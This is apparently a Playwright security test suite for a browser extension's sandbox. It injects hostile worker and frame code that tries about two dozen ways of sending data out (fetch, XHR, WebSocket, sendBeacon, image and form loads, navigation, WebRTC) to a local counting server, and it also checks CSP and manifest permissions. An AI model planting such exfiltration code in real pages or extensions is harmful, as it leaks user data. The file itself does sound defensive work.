/**
 * The ways out of a cell. Hostile code stands where our own would: the built extension, its real manifest and policies, but the cell's
 * worker (or the frame's page) replaced. A server counts what arrives, and an ordinary page shows that it would have counted.
 */
import { cpSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { expect, test } from '@playwright/test'
import { callTool } from '../support/btcp.ts'
import { countingServer } from '../support/counting-server.ts'
import { launchTidepool } from '../support/extension.ts'
import { serveSites } from '../support/site-server.ts'

const BUILT = fileURLToPath(new URL('../../dist/extension', import.meta.url))
const WAYS_OUT = readFileSync(new URL('ways-out.js', import.meta.url), 'utf8')

/** A copy of the build in which one file is another. */
function changedBuild(file: string, content: string): string {
  const folder = mkdtempSync(join(tmpdir(), 'tidepool-hostile-'))
  cpSync(BUILT, folder, { recursive: true })
  writeFileSync(join(folder, file), content)
  return folder
}

/** The built script of the frame's page. */
function frameScript(): string {
  const page = readFileSync(join(BUILT, 'src/sandbox/frame/index.html'), 'utf8')
  const script = /src="\/?([^"]+\.js)"/.exec(page)?.[1]
  if (script === undefined) throw new Error('Cannot find the script of the frame')
  return script
}

test('T44 hostile code in the place of a cell reaches nothing, and a server counts nothing', async () => {
  await using counter = await countingServer()
  await using sites = await serveSites()
  const hostile = `${WAYS_OUT}
    addEventListener('message', async ({ ports: [broker] }) => {
      const tried = await tryWaysOut(${counter.port})
      const open = Object.keys(tried).filter((way) => tried[way] === 'open')
      broker.postMessage({ t: 'refused', reason: JSON.stringify({ open, tried: Object.keys(tried).length, origin: self.origin }) })
    }, { once: true })`
  const build = changedBuild('cell-worker.js', hostile)
  await using tidepool = await launchTidepool({ build })
  const page = await tidepool.site(sites.origin('app'))
  const { failure } = await callTool(page, 'fs_stat', { path: '.' })
  expect(failure?.data.btcpCode).toBe('SANDBOX_ERROR')
  // The error is the one thing that gets out: it names what stood open.
  expect(JSON.parse(/\{.*\}/.exec(failure?.message ?? '')?.[0] ?? '{}')).toEqual({ open: [], tried: 25, origin: 'null' })
  expect(counter.seen).toEqual([])
  rmSync(build, { recursive: true })
})

test('T44 the positive control: from an ordinary page the same server counts the same ways', async () => {
  await using counter = await countingServer()
  await using sites = await serveSites()
  await using tidepool = await launchTidepool()
  const page = await tidepool.open(`${sites.origin('control')}/`)
  const source = `${WAYS_OUT}; addEventListener('message', async () => postMessage(await tryWaysOut(${counter.port})))`
  const tried = await page.evaluate(async (text) => {
    const worker = new Worker(URL.createObjectURL(new Blob([text])))
    worker.postMessage('start', [])
    return await new Promise<Record<string, string>>((resolve) =>
      worker.addEventListener('message', ({ data }) => resolve(data as Record<string, string>)),
    )
  }, source)
  for (const way of ['fetch', 'fetch no-cors', 'XMLHttpRequest', 'importScripts', 'import()', 'a worker of its own', 'indexedDB', 'eval'])
    expect([way, tried[way]]).toEqual([way, 'open'])
  expect(counter.seen).toEqual(
    expect.arrayContaining([
      'GET /fetch',
      'GET /no-cors',
      'GET /xhr',
      'GET /sync',
      'upgrade',
      'GET /events',
      'GET /script.js',
      'GET /module.js',
      'GET /nested',
      'GET /cache',
    ]),
  )
  await page.evaluate(async (port) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] })
    connection.createDataChannel('x')
    await connection.setLocalDescription()
    navigator.sendBeacon(`http://127.0.0.1:${port}/beacon`, 'x')
    await new Promise((resolve) => setTimeout(resolve, 1_000))
  }, counter.port)
  expect(counter.seen).toContain('POST /beacon')
})

test('T45 hostile code in the place of the frame cannot navigate it away or send anything by the document', async () => {
  await using counter = await countingServer()
  await using sites = await serveSites()
  const http = `http://127.0.0.1:${counter.port}`
  const hostile = `
    const attempt = (act) => { try { act() } catch {} }
    attempt(() => { document.body.innerHTML = '<img src="${http}/img"><iframe src="${http}/frame"></iframe><object data="${http}/object"></object><link rel=stylesheet href="${http}/css"><video src="${http}/video"></video><form id=f action="${http}/form" method=post><input name=a value=b></form>' })
    attempt(() => document.querySelector('#f').submit())
    attempt(() => window.open('${http}/open'))
    attempt(() => top.postMessage('x', '*'))
    attempt(() => { top.location = '${http}/top' })
    attempt(() => { const link = document.createElement('a'); link.href = '${http}/ping'; link.ping = '${http}/pinged'; link.target = '_blank'; document.body.append(link); link.click() })
    attempt(() => { const script = document.createElement('script'); script.src = '${http}/script'; document.head.append(script) })
    attempt(() => navigator.sendBeacon('${http}/beacon', 'x'))
    attempt(() => fetch('${http}/fetch', { mode: 'no-cors' }).catch(() => {}))
    attempt(() => new WebSocket('ws://127.0.0.1:${counter.port}/ws'))
    setTimeout(() => { location.href = '${http}/away' }, 200)`
  const build = changedBuild(frameScript(), hostile)
  await using tidepool = await launchTidepool({ build })
  const page = await tidepool.site(sites.origin('app'))
  const { failure } = await callTool(page, 'fs_stat', { path: '.' })
  expect(failure?.data.btcpCode).toBe('SANDBOX_ERROR')
  await page.waitForTimeout(500)
  // A document may open a connection ahead of a navigation that is then stopped; nothing is sent on it. It is why no guest runs in one.
  expect(counter.seen.filter((seen) => seen !== 'tcp')).toEqual([])
  rmSync(build, { recursive: true })
})

test('a frame that is built without the policy fails the self-test, and nothing runs in it', async () => {
  await using sites = await serveSites()
  const build = changedBuild('unused.txt', '')
  const path = join(build, 'manifest.json')
  const manifest = JSON.parse(readFileSync(path, 'utf8')) as { content_security_policy: { sandbox: string } }
  manifest.content_security_policy.sandbox = "sandbox allow-scripts; script-src 'self' 'wasm-unsafe-eval' blob:; worker-src blob:"
  writeFileSync(path, JSON.stringify(manifest))
  await using tidepool = await launchTidepool({ build })
  const page = await tidepool.site(sites.origin('app'))
  const { failure } = await callTool(page, 'fs_stat', { path: '.' })
  expect(failure).toMatchObject({ code: -32013, data: { btcpCode: 'SANDBOX_ERROR' } })
  rmSync(build, { recursive: true })
})

test('the manifest asks for no more than it needs', () => {
  const manifest = JSON.parse(readFileSync(join(BUILT, 'manifest.json'), 'utf8')) as Record<string, unknown>
  expect(manifest['permissions']).toEqual(['offscreen', 'storage', 'unlimitedStorage', 'scripting', 'activeTab'])
  for (const key of [
    'web_accessible_resources',
    'externally_connectable',
    'host_permissions',
    'content_scripts',
    'optional_permissions',
    'key',
  ])
    expect([key, manifest[key]]).toEqual([key, undefined])
  expect(manifest['message_serialization']).toBe('structured_clone')
  const texts = readdirSync(BUILT, { recursive: true, encoding: 'utf8' }).filter((file) => file.endsWith('.js'))
  for (const file of texts) expect([file, /\beval\(|new Function\(/.test(readFileSync(join(BUILT, file), 'utf8'))]).toEqual([file, false])
})
